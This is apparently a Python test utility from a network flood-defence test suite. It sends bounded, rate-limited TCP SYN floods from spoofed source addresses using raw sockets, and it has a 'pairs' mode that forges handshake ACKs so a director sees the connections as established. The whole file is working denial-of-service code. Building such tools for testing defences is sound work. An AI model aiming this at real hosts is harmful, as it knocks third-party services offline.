#!/usr/bin/env python3
"""A bounded SYN flood from spoofed sources, for the flood-defence tests.

    syn_flood.py DST PORT SRC_PREFIX COUNT SECONDS RATE [syn|pairs]

Sends at most COUNT TCP SYNs to DST:PORT, at about RATE per second, and
stops after SECONDS whatever the count, or at SIGTERM. `pairs`: each SYN is
followed by the client's ACK, the second half of a handshake the spoofed
source never saw the SYN-ACK of (to a director that sees one direction,
or follows IPVS's normal state table, that looks established). The sources are addresses of
SRC_PREFIX (for example 192.0.2.128/25 or 2001:db8:dead::/64: documentation
addresses nobody owns, routed back into the test's client namespace where
the replies die), with source ports cycling from 1024. Raw sockets with
our own headers: needs root (CAP_NET_RAW), run it inside a namespace.
Prints how many SYNs it sent and over how many seconds.
"""
import ipaddress
import random
import signal
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_segment(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int,
                v6: bool) -> bytes:
    # 20-byte header plus MSS 1460 (4 bytes): data offset 6 words.
    opts = struct.pack("!BBH", 2, 4, 1460)
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 6 << 4, flags, 64240, 0, 0) + opts
    if v6:
        pseudo = src + dst + struct.pack("!IxxxB", len(hdr), 6)
    else:
        pseudo = src + dst + struct.pack("!xBH", 6, len(hdr))
    c = checksum(pseudo + hdr)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:]


def ipv4(src: bytes, dst: bytes, payload: bytes, ident: int) -> bytes:
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident & 0xFFFF, 0x4000, 64, 6, 0, src, dst)
    return h[:10] + struct.pack("!H", checksum(h)) + h[12:] + payload


def main() -> int:
    if len(sys.argv) not in (7, 8) or (len(sys.argv) == 8 and sys.argv[7] not in ("syn", "pairs")):
        print(__doc__, file=sys.stderr)
        return 2
    pairs = len(sys.argv) == 8 and sys.argv[7] == "pairs"
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    dst = ipaddress.ip_address(sys.argv[1])
    dport = int(sys.argv[2])
    net = ipaddress.ip_network(sys.argv[3], strict=False)
    count, seconds, rate = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    v6 = dst.version == 6
    if v6 != (net.version == 6):
        print("destination and source prefix must be of one family", file=sys.stderr)
        return 2
    hosts = min(net.num_addresses - 2, 1 << 16) if net.num_addresses > 2 else 1
    base = int(net.network_address) + 1
    if v6:
        # IPv6 raw sockets do not take our own IP header: the kernel writes
        # it from the socket address and IPV6_PKTINFO's source.
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
        s.setsockopt(socket.IPPROTO_IPV6, 76, 1)  # IPV6_FREEBIND: a source we do not own
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dbytes = dst.packed
    start = time.monotonic()
    sent = 0
    rnd = random.Random(15)
    while sent < count and not stop:
        now = time.monotonic()
        if now - start >= seconds:
            break
        # Pace: never ahead of RATE per second.
        ahead = sent / rate - (now - start)
        if ahead > 0:
            time.sleep(min(ahead, 0.05))
            continue
        i = sent
        src = ipaddress.ip_address(base + i % hosts).packed
        sport = 1024 + (i // hosts) % 60000
        seq = rnd.getrandbits(32)
        segs = [tcp_segment(src, dbytes, sport, dport, seq, 0, 0x02, v6)]
        if pairs:
            segs.append(tcp_segment(src, dbytes, sport, dport, (seq + 1) & 0xFFFFFFFF, rnd.getrandbits(32), 0x10, v6))
        for seg in segs:
            try:
                if v6:
                    pktinfo = src + struct.pack("@I", 0)
                    s.sendmsg([seg], [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, pktinfo)], (str(dst), 0))
                else:
                    s.sendto(ipv4(src, dbytes, seg, i), (str(dst), 0))
            except OSError:
                pass  # a full socket buffer: the next one
        sent += 1
    print("%d in %.1f s" % (sent, time.monotonic() - start))
    return 0


if __name__ == "__main__":
    sys.exit(main())
